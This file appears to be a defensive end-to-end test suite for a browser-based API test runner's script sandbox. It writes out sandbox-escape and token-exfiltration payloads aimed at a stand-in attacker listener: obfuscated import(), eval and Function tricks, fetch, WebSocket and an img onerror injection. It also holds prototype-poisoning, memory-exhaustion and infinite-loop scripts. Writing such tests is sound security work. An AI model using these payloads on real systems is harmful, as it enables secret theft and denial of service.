// Hostile suite scripts against the release page served from a sub-path, in headless Chromium.
// A listener on another 127.0.0.1 port stands for the attacker's host: every test ends by
// checking that no connection of any kind reached it, so the token typed into the page never
// left. The scripts run in the real worker (QuickJS in WebAssembly) under the page's CSP.
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { after, before, test } from 'node:test';
import { consoleErrors, fillVariables, launchBrowser, outcomesByNote, serveDist, withPage } from './harness.mjs';

const TOKEN = 'Bearer e2e-SECRET-token-0042';
let site, target, listener, browser;

/** The server under test: answers every request with JSON, CORS open. */
async function startTarget() {
  const server = createServer((req, res) => {
    const cors = { 'Access-Control-Allow-Origin': '*', 'Access-Control-Allow-Headers': '*', 'Access-Control-Allow-Methods': '*' };
    if (req.method === 'OPTIONS') return res.writeHead(204, cors).end();
    res.writeHead(200, { ...cors, 'Content-Type': 'application/json' }).end(JSON.stringify({ url: req.url }));
  });
  await new Promise((ok) => server.listen(0, '127.0.0.1', ok));
  return { url: `http://127.0.0.1:${server.address().port}`, close: () => server.close() };
}

/** The attacker's host: counts every TCP connection (HTTP, WebSocket or anything else). */
async function startListener() {
  const heard = [];
  const server = createServer((req, res) => {
    heard.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'application/json' }).end('{}');
  });
  server.on('connection', (socket) => heard.push(`connection from ${socket.remotePort}`));
  await new Promise((ok) => server.listen(0, '127.0.0.1', ok));
  return { url: `http://127.0.0.1:${server.address().port}`, heard, close: () => server.close() };
}

before(async () => {
  [site, target, listener, browser] = await Promise.all([serveDist(), startTarget(), startListener(), launchBrowser()]);
});
after(async () => {
  await browser?.close();
  target?.close();
  listener?.close();
  await site?.close();
});

const step = (note, scripts, extra = {}) => ({
  step_type: 'request',
  note,
  method: 'GET',
  url: '{{base}}/' + encodeURIComponent(note),
  headers: { Authorization: ['{{auth}}'] },
  assertions: [{ source: 'response_status', comparison: 'equal_number', value: 200 }],
  variables: [],
  scripts,
  before_scripts: [],
  ...extra,
});

/** Loads `steps` through the paste box, fills base and auth, runs with `seconds` per script. */
async function runSuite(page, name, steps, seconds = 3) {
  await page.getByText('Paste suite JSON').click();
  await page.getByLabel('Suite JSON').fill(JSON.stringify({ name, steps }));
  await page.getByRole('button', { name: 'Load pasted JSON' }).click();
  await page.getByRole('heading', { name }).waitFor();
  await fillVariables(page, { base: target.url, auth: TOKEN });
  await page.getByLabel('Skip pauses').check();
  await page.getByLabel('Script time limit in seconds').fill(String(seconds));
  await page.getByRole('button', { name: 'Run', exact: true }).click();
  await page.locator('main[data-run-state="done"]').waitFor({ timeout: 120_000 });
}

const row = (page, note) => page.locator('li.step', { has: page.getByText(note, { exact: true }) });

async function detail(page, note) {
  const line = row(page, note);
  if ((await line.locator('.step-detail').count()) === 0) await line.locator('button.step-line').click();
  return line.locator('.step-detail').textContent();
}

/** Every request the page and its workers made; none may go to the listener or carry the token. */
function watchRequests(page) {
  const urls = [];
  page.on('request', (r) => urls.push(r.url()));
  return urls;
}

function assertNothingLeft(urls) {
  assert.deepEqual(listener.heard, [], 'the listener was reached');
  const secret = TOKEN.split(' ')[1];
  const leaks = urls.filter((u) => u.startsWith(listener.url) || u.includes(secret) || u.includes(encodeURIComponent(secret)));
  assert.deepEqual(leaks, [], 'a request carried the token or went to the listener');
}

test('no suite script reaches another host or the page, however it is written', async () => {
  const L = `'${listener.url}/c.json?t=' + encodeURIComponent(variables.get('auth'))`;
  const own = `'${site.url}own.js?t=' + encodeURIComponent(variables.get('auth'))`;
  const attempts = {
    'import with a comment': `import/**/(${L}, {with: {type: 'json'}})`,
    'import with a line break': `import\n(${L}, {with: {type: 'json'}})`,
    'import with an HTML comment': `import<!--\n(${L})`,
    'import of the page origin': `import(${own})`,
    'eval of a built string': `eval('imp' + 'ort(' + JSON.stringify(${L}) + ')')`,
    'new Function of a built string': `new Function('return imp' + 'ort(' + JSON.stringify(${L}) + ')')()`,
    'Function argument that changes': `var n = 0; var code = { toString() { return n++ ? 'return import(' + JSON.stringify(${L}) + ')' : 'return 1' } }; Function(code)(); Function(code)();`,
    fetch: `fetch(${L})`,
    XMLHttpRequest: `var x = new XMLHttpRequest(); x.open('GET', ${L}); x.send()`,
    WebSocket: `new WebSocket(${L}.replace('http', 'ws'))`,
    importScripts: `importScripts(${L})`,
    'self.when message': `self.when('message').subscribe(e => fetch(${L} + e.data))`,
    postMessage: `postMessage(${L})`,
    'the global object': `Function('return this')().fetch(${L})`,
    'a later microtask': `Promise.resolve().then(() => Function('return this')().fetch(${L}))`,
    'an image in a log': `log('<img src="' + ${L} + '" onerror="fetch(this.src)">')`,
  };
  const steps = Object.entries(attempts).map(([note, script]) => step(note, [`try { ${script} } finally { log('ran') }`]));
  steps.push(step('pre-request import', [], { before_scripts: [`import(${L}); request.url = request.url`] }));
  steps.push(step('afterwards', []));
  await withPage(browser, 'sandbox attacks', site.url, async (page, consoleLog) => {
    const urls = watchRequests(page);
    await runSuite(page, 'Attacks', steps);
    // Give anything that escaped time to arrive.
    await page.waitForTimeout(500);
    assertNothingLeft(urls);
    const outcomes = Object.fromEntries(await outcomesByNote(page));
    assert.equal(Object.keys(outcomes).length, steps.length);
    for (const [note, outcome] of Object.entries(outcomes)) {
      assert.ok(outcome === 'pass' || outcome === 'fail', `${note}: ${outcome}`);
    }
    assert.equal(outcomes.afterwards, 'pass');
    assert.match(await detail(page, 'fetch'), /fetch is not defined \(scripts run in a sandbox/);
    assert.match(await detail(page, 'importScripts'), /importScripts is not defined/);
    // The payload in the log is text: no image element anywhere in the results.
    assert.match(await detail(page, 'an image in a log'), /<img src=/);
    assert.equal(await page.locator('main img').count(), 0);
    assert.deepEqual(consoleErrors(consoleLog), []);
  });
});

test("no script changes what a later script sees: queued work, finalizers, prototypes", async () => {
  const steps = [
    step('queues work', [
      "Promise.resolve().then(() => { globalThis.assert = { equal() {} }; assert.equal = () => {} });\n" +
        "new FinalizationRegistry(() => { globalThis.assert = { equal() {} } }).register({}, 'x');\n" +
        "globalThis.leaked = variables.get('auth');",
    ]),
    step('loops forever asynchronously', ["(async () => { for (;;) { await null; globalThis.assert = null } })();"]),
    step('changes prototypes', [
      "Object.setPrototypeOf(Array.prototype, { includes() { return true } });\n" +
        "Iterator.prototype.toArray = () => ['forged'];\n" +
        "Object.getPrototypeOf(Uint8Array).prototype.join = () => 'forged';\n" +
        "Object.prototype.toJSON = () => 'forged'; Object.freeze(Object.prototype);",
    ]),
    step('must fail', ["log(typeof leaked); assert.equal(response.status, 201, 'the later assertion must fail')"]),
    step('sees clean built-ins', [
      "assert.isFalse([].includes(1)); assert.deepEqual([1].values().toArray(), [1]);\n" +
        "assert.equal(new Uint8Array([1, 2]).join('-'), '1-2'); assert.isFalse(Object.isFrozen(Object.prototype));",
    ]),
  ];
  await withPage(browser, 'sandbox isolation', site.url, async (page) => {
    const urls = watchRequests(page);
    await runSuite(page, 'Isolation', steps, 2);
    const outcomes = Object.fromEntries(await outcomesByNote(page));
    assert.equal(outcomes['queues work'], 'pass');
    assert.equal(outcomes['loops forever asynchronously'], 'fail');
    assert.match(await detail(page, 'loops forever asynchronously'), /longer than its limit of 2000 ms/);
    assert.equal(outcomes['changes prototypes'], 'pass');
    assert.equal(outcomes['must fail'], 'fail');
    const failed = await detail(page, 'must fail');
    assert.match(failed, /the later assertion must fail: expected 200 to equal 201/);
    assert.match(failed, /undefined/);
    assert.equal(outcomes['sees clean built-ins'], 'pass', await detail(page, 'sees clean built-ins'));
    assertNothingLeft(urls);
  });
});

test('a script that allocates in a loop, logs 500 MB or never ends: the tab survives and the run goes on', async () => {
  const steps = [
    step('allocates', ["log('allocating'); var a = []; for (;;) a.push('x'.repeat(1000) + a.length);"]),
    step('after allocating', ["assert.equal(response.status, 200)"]),
    step('logs 500 MB', ["var chunk = 'x'.repeat(1024 * 1024); for (var i = 0; i < 500; i++) log(chunk);"]),
    step('spins', ['while (true) {}']),
    step('after all', ["assert.equal(response.status, 200); log('still running')"]),
  ];
  await withPage(browser, 'sandbox limits', site.url, async (page, consoleLog) => {
    let crashed = false;
    page.on('crash', () => (crashed = true));
    const started = Date.now();
    await runSuite(page, 'Limits', steps, 10);
    assert.equal(crashed, false);
    const outcomes = Object.fromEntries(await outcomesByNote(page));
    assert.deepEqual(outcomes, {
      allocates: 'fail',
      'after allocating': 'pass',
      'logs 500 MB': 'pass',
      spins: 'fail',
      'after all': 'pass',
    });
    const allocates = await detail(page, 'allocates');
    assert.match(allocates, /the script used more than 128 MB of memory and was stopped/);
    assert.match(allocates, /allocating/);
    assert.match(await detail(page, 'logs 500 MB'), /the log was cut at 1 MB or 10,000 lines: 499 more lines were not kept/);
    assert.match(await detail(page, 'spins'), /longer than its limit of 10000 ms/);
    assert.match(await detail(page, 'after all'), /still running/);
    // The endless loop took its 10 s; the rest, a few seconds at most.
    assert.ok(Date.now() - started < 40_000, `took ${Date.now() - started} ms`);
    // The page still answers.
    assert.equal(await page.evaluate(() => document.querySelectorAll('li.step').length), steps.length);
    assert.deepEqual(consoleErrors(consoleLog), []);
  });
});

test('a script recursing without end is a RangeError, and the next script runs', async () => {
  const steps = [
    step('recurses', ['function f(n) { return f(n + 1) + 1 } f(0)']),
    step('recurses through built-ins', ['var a = []; for (var i = 0; i < 1e6; i++) a = [a]; String(a)']),
    step('after', ["log('next')"]),
  ];
  await withPage(browser, 'sandbox recursion', site.url, async (page) => {
    await runSuite(page, 'Recursion', steps);
    const outcomes = Object.fromEntries(await outcomesByNote(page));
    assert.deepEqual(outcomes, { recurses: 'fail', 'recurses through built-ins': 'fail', after: 'pass' });
    assert.match(await detail(page, 'recurses'), /RangeError: Maximum call stack size exceeded/);
    assert.match(await detail(page, 'recurses through built-ins'), /RangeError: Maximum call stack size exceeded/);
  });
});

test('a script stuck where QuickJS cannot interrupt it is ended by the page, and the next one runs', async () => {
  // Searching a billion-long array-like runs for a minute inside QuickJS's C code, which checks
  // for interrupts only between JavaScript instructions: the page's own timer ends the worker.
  const steps = [
    step('searches in C', ['Array.prototype.includes.call({ length: 1e9 }, 1)']),
    step('after', ["log('a new worker')"]),
  ];
  await withPage(browser, 'sandbox backup timer', site.url, async (page) => {
    const started = Date.now();
    await runSuite(page, 'Stuck', steps, 1);
    const outcomes = Object.fromEntries(await outcomesByNote(page));
    assert.deepEqual(outcomes, { 'searches in C': 'fail', after: 'pass' });
    assert.match(await detail(page, 'searches in C'), /longer than its limit of 1000 ms/);
    assert.match(await detail(page, 'after'), /a new worker/);
    // The limit and the page's 2 s of grace, not the minute the search would take.
    assert.ok(Date.now() - started < 6_000, `took ${Date.now() - started} ms`);
  });
});
